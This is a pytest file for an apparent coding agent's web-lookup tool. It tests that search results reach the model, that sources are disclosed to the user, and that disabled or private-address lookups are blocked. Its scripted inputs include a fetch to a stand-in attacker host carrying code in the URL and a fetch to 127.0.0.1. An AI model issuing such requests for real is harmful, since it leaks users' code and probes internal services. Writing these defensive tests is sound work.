"""An action that looks things up on the web: only where that is on, by its rules, and told to the user."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from actions import consult
from actions.act import Asked, Means, act
from actions.kinds import KINDS
from actions.web import web_tools
from inference.ledger import Ledger
from settings import paths
from settings.schema import Settings, Web
from tests.actions.test_act import RIGHT, root, settings  # noqa: F401  # a fixture
from tests.actions.test_ladder import SUMS
from tests.fake_web import FakeWeb, searxng
from tests.scripted_engine import Script, ScriptedEngine

HIT = {"title": "Sums", "url": "https://docs.example/sums", "content": "Adding is done with a plus."}
SEARCH = '{"tool": "web_search", "query": "python sum"}'
EVIL = '{"tool": "fetch_page", "url": "https://evil.example/?code=def"}'
INSIDE = '{"tool": "fetch_page", "url": "http://127.0.0.1/"}'


@pytest.fixture
def internet() -> Iterator[FakeWeb]:
    consult.WITHOUT_TOOLS.clear()
    with FakeWeb() as fake:
        fake.page("/search", searxng(HIT))
        yield fake
    consult.WITHOUT_TOOLS.clear()


def online(internet: FakeWeb) -> Settings:
    return replace(settings("parse"), web=Web(search=("searxng",), searxng_url=internet.url, fetch=True))


async def acted(
    root: Path,  # noqa: F811
    settings: Settings,
    lookups: list[str],
    instruction: str = "make it add",
) -> tuple[ScriptedEngine, list[str]]:
    engine, said = ScriptedEngine(Script(chats=[RIGHT], lookups=lookups)), []
    ledger = Ledger(paths.ledger_file())
    asked = Asked(KINDS["refactor"], "sums.py", SUMS, 1, 1, instruction)
    assert (await act(asked, Means(root, settings, engine, ledger=ledger), said.append)).passed
    ledger.close()
    return engine, said


async def test_a_result_is_shown_to_the_model_and_its_source_to_the_user(
    root: Path,  # noqa: F811
    internet: FakeWeb,
) -> None:
    engine, said = await acted(root, online(internet), [SEARCH, EVIL])
    draft = engine.heard[-1].turns[-1][1]
    assert "Adding is done with a plus." in draft and "evil.example" not in draft
    assert "Seen on the web: Sums <https://docs.example/sums>" in said
    assert [request.path.partition("?")[0] for request in internet.asked] == ["/search"]
    with sqlite3.connect(paths.ledger_file()) as connection:
        rows = connection.execute("SELECT project, tool, engine, ok FROM lookups").fetchall()
    assert rows == [(str(root), "web_search", "searxng", 1)]


async def test_an_address_of_the_users_own_words_still_has_to_be_public(
    root: Path,  # noqa: F811
    internet: FakeWeb,
) -> None:
    engine, _ = await acted(root, online(internet), [INSIDE], "do it as on http://127.0.0.1/ says")
    assert "no address of the public web" in engine.heard[1].turns[-1][1]


@pytest.mark.parametrize("off", ["settings", "offline"])
async def test_where_the_web_is_off_the_model_hears_nothing_of_it(
    off: str,
    root: Path,  # noqa: F811
    internet: FakeWeb,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    if off == "offline":
        monkeypatch.setenv("NEARSIDE_OFFLINE", "1")
    engine, said = await acted(root, settings("parse") if off == "settings" else online(internet), [SEARCH])
    assert "web_search" not in engine.heard[0].turns[-1][1] and internet.asked == []
    assert not any("web" in line for line in said if not line.startswith("Looking up"))


def test_nothing_of_it_is_made_where_it_is_off(tmp_path: Path) -> None:
    assert web_tools(Web(), "https://docs.example/", tmp_path, None) is None
    assert web_tools(Web(fetch=True), "", tmp_path, None) is not None
